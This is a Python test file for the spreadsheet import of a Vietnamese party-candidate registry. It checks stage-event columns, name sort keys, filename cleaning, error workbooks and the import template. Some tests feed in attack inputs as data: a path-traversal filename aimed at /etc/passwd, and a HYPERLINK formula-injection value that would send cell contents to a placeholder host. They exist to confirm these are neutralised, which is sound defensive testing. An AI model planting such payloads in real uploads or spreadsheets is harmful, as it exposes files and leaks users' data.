"""The pure helpers of the import's persisting step agree with their one source."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from registry.domain.stage_columns import columns_from_events
from registry.domain.textutil import fold, sort_key
from registry.models import Candidate, StageEvent
from registry.services.candidates.stages import sync_stage_columns
from registry.services.imports.batch_file import safe_filename
from registry.services.imports.error_workbook import build_error_workbook, error_filename
from registry.services.imports.match import new_row_events, row_columns
from registry.services.imports.template import build_template
from registry.spreadsheet import stage_events

ROWS = [
    {"trained_date": date(2024, 3, 1), "certificate_no": "GCN-1"},
    {"source_date": date(2024, 1, 1), "cell_resolution_date": date(2024, 6, 1)},
    {
        "source_date": date(2023, 1, 1),
        "decision_date": date(2024, 8, 1),
        "decision_no": "QĐ-9",
        "admitted_date": date(2024, 9, 1),
        "exited_date": date(2024, 10, 1),
        "exit_reason": "moved",
    },
    {},
]


@pytest.mark.parametrize("values", ROWS)
def test_row_events_are_those_of_stage_events(values):
    expected = [(str(e.stage), e.date, e.number) for e in stage_events(values)]
    assert [(s, d, n) for s, d, n, _reason in new_row_events(values)] == expected


@pytest.mark.parametrize("values", ROWS)
def test_stage_columns_match_the_stage_service(values):
    events = new_row_events(values)
    candidate = Candidate()
    candidate.events = [
        StageEvent(stage=s, event_date=d, document_no=n, reason=r, sequence=i)
        for i, (s, d, n, r) in enumerate(events, 1)
    ]
    sync_stage_columns(candidate)
    columns = columns_from_events(events)
    assert {k: getattr(candidate, k) for k in columns} == columns


@pytest.mark.parametrize("name", ["Nguyễn Thị Hoà", "Lò A Páo", "Hùng", "Trần  Văn   Đức"])
def test_an_imported_row_gets_the_sort_key_of_its_name_as_written(name):
    assert row_columns({"full_name": name, "name_key": fold(name)})["sort_key"] == sort_key(name)


def test_file_names_are_cleaned():
    assert safe_filename("../../etc/passwd.xlsx") == "passwd.xlsx"
    assert safe_filename("C:\\Users\\an\\Danh sách.xlsx") == "Danh sách.xlsx"
    assert safe_filename('a"b<c>.csv') == "abc.csv" and safe_filename("") == "tep_nhap"
    assert error_filename("Danh sách.xls") == "loi_Danh sách.xlsx"


def test_error_workbook_keeps_row_numbers_and_marks_cells():
    rows = [
        (1, ["DANH SÁCH"]),
        (3, ["Họ và tên", "Ngày sinh"]),
        (4, ["An", "31/02/2005"]),
        (5, ["Bình", date(2005, 1, 2)]),
    ]
    errors = [
        {"row": 4, "column": "birth_date", "code": "invalid_date", "message": "Ngày sai."},
        {"row": 4, "column": "gender", "code": "required", "message": "Thiếu giới tính."},
    ]
    data = build_error_workbook("DS", rows, 3, {0: "full_name", 1: "birth_date"}, errors)
    ws = openpyxl.load_workbook(data).active
    assert ws["A1"].value == "DANH SÁCH" and ws["A3"].value == "Họ và tên"
    assert ws["C3"].value == "Lỗi" and ws["C4"].value == "Ngày sai.\nThiếu giới tính."
    assert ws["B4"].comment.text.startswith("Ngày sai.") and ws["A4"].comment is None
    assert ws["B5"].number_format == "dd/mm/yyyy" and ws["C5"].value is None


def test_error_workbook_writes_formula_like_text_as_text():
    link = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm")'
    rows = [
        (1, ["Họ và tên", "Quê quán", "Ghi chú"]),
        (2, ["An", link, "+84 912"]),
        (3, ["Bình", "@SUM(A1)", "-1+2"]),
    ]
    errors = [{"row": 2, "column": "hometown", "code": "required", "message": "Sai."}]
    columns = {0: "full_name", 1: "hometown", 2: "note"}
    data = build_error_workbook("DS", rows, 1, columns, errors)
    ws = openpyxl.load_workbook(data).active
    for ref, value in (("B2", link), ("C2", "+84 912"), ("B3", "@SUM(A1)"), ("C3", "-1+2")):
        assert (ws[ref].value, ws[ref].data_type) == (value, "s"), ref
    assert ws["B2"].comment.text.startswith("Sai.")  # the marked cell, still text


def test_template_lists_every_canonical_header():
    book = openpyxl.load_workbook(io.BytesIO(build_template().getvalue()))
    headers = [c.value for c in book["Danh sách"][1]]
    assert headers[:4] == ["STT", "Họ và tên", "Ngày sinh", "Giới tính"]
    assert headers[headers.index("Lý do") - 1] == "Ngày ra khỏi danh sách"
    # The dossier's optional columns close the row: two introducers and the cell's vote.
    assert headers[-9:] == [
        "Người giới thiệu 1: họ tên",
        "Người giới thiệu 1: ngày giới thiệu",
        "Người giới thiệu 1: ngày vào Đảng chính thức",
        "Người giới thiệu 1: số tháng công tác cùng",
        "Người giới thiệu 2: họ tên",
        "Người giới thiệu 2: ngày giới thiệu",
        "Người giới thiệu 2: ngày vào Đảng chính thức",
        "Người giới thiệu 2: số tháng công tác cùng",
        "Biểu quyết của chi bộ (tán thành/chính thức)",
    ]
    sheet = book["Danh sách"]
    assert sheet["B2"].value == "Nguyễn Văn An"
    vote = sheet.cell(2, len(headers))
    # Text, so that Excel keeps "18/20" (and "7/9") as written instead of a date.
    assert (vote.value, vote.number_format) == ("18/20", "@")
    assert sheet.cell(3, len(headers)).number_format == "@"
    since = sheet.cell(2, headers.index("Người giới thiệu 1: ngày vào Đảng chính thức") + 1)
    assert since.number_format == "dd/mm/yyyy"
